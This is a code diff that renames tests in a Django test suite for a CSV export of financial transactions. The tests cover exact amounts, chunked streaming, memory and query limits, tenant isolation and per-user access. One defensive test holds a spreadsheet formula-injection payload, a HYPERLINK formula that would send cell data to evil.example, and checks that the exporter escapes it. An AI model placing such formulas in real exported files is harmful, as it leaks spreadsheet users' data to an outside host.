@@ -33,7 +33,7 @@ def export_rows(user: User) -> list[list[str]]:
     return list(islice(csv.reader(csv_export.csv_lines(owner_id=user.pk, rows=rows)), MAX_LINES))
 
 
-def test_it_says_what_each_row_is(alice: User, account: Account) -> None:
+def test_it_writes_all_columns_of_a_row(alice: User, account: Account) -> None:
     row = make_transaction(
         account,
         "-4.33",
@@ -59,11 +59,11 @@ def test_it_says_what_each_row_is(alice: User, account: Account) -> None:
     }
 
 
-def test_it_gives_a_pending_row_no_day_of_posting(alice: User, account: Account) -> None:
+def test_it_writes_no_posting_date_for_a_pending_row(alice: User, account: Account) -> None:
     make_transaction(account, "-4.33", pending=True)
     head, body = export_rows(alice)
-    facts = dict(zip(head, body, strict=True))
-    assert (facts["Posted"], facts["Status"]) == ("", "pending")
+    cells = dict(zip(head, body, strict=True))
+    assert (cells["Posted"], cells["Status"]) == ("", "pending")
 
 
 @pytest.mark.parametrize(
@@ -80,24 +80,22 @@ def test_it_gives_a_pending_row_no_day_of_posting(alice: User, account: Account)
         ("-123456789012345678.0123456789", "-123456789012345678.0123456789"),
     ],
 )
-def test_it_writes_an_amount_with_all_its_digits_and_no_others(
-    alice: User, account: Account, amount: str, text: str
-) -> None:
+def test_it_writes_amounts_exactly(alice: User, account: Account, amount: str, text: str) -> None:
     make_transaction(account, amount)
     head, body = export_rows(alice)
     assert body[head.index("Amount")] == text
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
-def test_it_lets_no_text_run_in_a_spreadsheet(alice: User, item: Item, start: str) -> None:
+def test_it_escapes_formulas(alice: User, item: Item, start: str) -> None:
     attack = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
     account = make_account(item, name=attack, mask="", currency=f"{start}1+1")
     make_transaction(account, "-1", merchant_name=attack, category=attack, note=attack)
     head, body = export_rows(alice)
-    facts = dict(zip(head, body, strict=True))
+    cells = dict(zip(head, body, strict=True))
     # Categories are shown as labels, in another case.
-    assert facts["Category"].startswith(f"'{start}")
-    assert [facts[name] for name in ("Description", "Account", "Note", "Currency", "Amount")] == [
+    assert cells["Category"].startswith(f"'{start}")
+    assert [cells[name] for name in ("Description", "Account", "Note", "Currency", "Amount")] == [
         f"'{attack}",
         f"'{attack}",
         f"'{attack}",
@@ -106,18 +104,18 @@ def test_it_lets_no_text_run_in_a_spreadsheet(alice: User, item: Item, start: st
     ]
 
 
-def test_it_keeps_a_text_that_looks_like_several_cells_in_one(alice: User, account: Account) -> None:
+def test_it_quotes_separators_and_line_breaks(alice: User, account: Account) -> None:
     note = 'a,"b"\r\n=c;d\te'
     make_transaction(account, "-1", note=note)
     head, *bodies = export_rows(alice)
     assert [dict(zip(head, body, strict=True))["Note"] for body in bodies] == [note]
 
 
-def test_it_writes_only_the_head_when_there_is_nothing(alice: User) -> None:
+def test_it_writes_only_the_header_without_rows(alice: User) -> None:
     assert export_rows(alice) == [list(csv_export.COLUMNS)]
 
 
-def test_it_writes_every_row_once_and_newest_first_over_many_chunks(alice: User, account: Account) -> None:
+def test_it_writes_every_row_once_and_newest_first_across_chunks(alice: User, account: Account) -> None:
     first = date(2026, 1, 1)
     # Seven days for 2,001 rows, so that every chunk ends in the middle of a day.
     rows = [build_transaction(account, f"-{n + 1}", id=uuid4(), day=first + timedelta(days=n % 7)) for n in range(2001)]
@@ -128,42 +126,42 @@ def test_it_writes_every_row_once_and_newest_first_over_many_chunks(alice: User,
     assert sum(Decimal(body[5]) for body in bodies) == -sum(range(1, 2002))
 
 
-def test_it_holds_no_more_than_a_chunk_in_memory(
-    alice: User, account: Account, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_it_keeps_at_most_two_chunks_in_memory(alice: User, account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(csv_export, "CHUNK_SIZE", 50)
     make_transactions(account, [build_transaction(account, "-1") for _ in range(500)])
     rows = Transaction.objects.for_user(alice).select_related("account")
     gc.collect()
-    # Whatever the process holds by now is not looked at again for every line.
+    # From here on, the garbage collector lists only new objects. Listing all for each line would take a minute.
     gc.freeze()
     try:
         lines = csv_export.csv_lines(owner_id=alice.pk, rows=rows)
-        most = max(sum(type(thing) is Transaction for thing in gc.get_objects()) for _ in lines)
+        max_count = max(sum(type(object_) is Transaction for object_ in gc.get_objects()) for _ in lines)
     finally:
         gc.unfreeze()
-    # The previous chunk and the current one, each with the one row more that tells whether another page follows.
-    assert most <= 2 * (50 + 1)
+    # The previous and the current chunk, each with one row more, which shows whether another page follows.
+    assert max_count <= 2 * (50 + 1)
 
 
-def test_it_asks_once_for_each_chunk(alice: User, account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_it_queries_once_per_chunk(alice: User, account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(csv_export, "CHUNK_SIZE", 10)
     make_transactions(account, [build_transaction(account, "-1") for _ in range(30)])
-    with CaptureQueriesContext(connection) as asked:
+    with CaptureQueriesContext(connection) as queries:
         export_rows(alice)
-    assert sum(query["sql"].startswith("SELECT") for query in asked) == 3
+    assert sum(query["sql"].startswith("SELECT") for query in queries) == 3
 
 
 @pytest.mark.django_db(transaction=True)
-def test_it_leaves_neither_a_transaction_nor_a_tenant_open_between_lines(alice: User, account: Account) -> None:
+def test_it_keeps_no_transaction_and_no_tenant_open_between_lines(alice: User, account: Account) -> None:
     make_transaction(account, "-1", removed_at=datetime(2026, 11, 20, tzinfo=UTC))
     make_transactions(account, [build_transaction(account, "-1") for _ in range(3)])
     rows = Transaction.objects.for_user(alice).select_related("account")
-    seen = [(connection.in_atomic_block, current_tenant()) for _ in csv_export.csv_lines(owner_id=alice.pk, rows=rows)]
-    assert seen
-    assert set(seen) == {(False, None)}
+    states = [
+        (connection.in_atomic_block, current_tenant()) for _ in csv_export.csv_lines(owner_id=alice.pk, rows=rows)
+    ]
+    assert states
+    assert set(states) == {(False, None)}
 
 
-def test_it_writes_no_row_of_somebody_else(mallory: User, account: Account) -> None:
+def test_it_writes_no_row_of_another_user(mallory: User, account: Account) -> None:
     make_transaction(account, "-1")
     assert export_rows(mallory) == [list(csv_export.COLUMNS)]
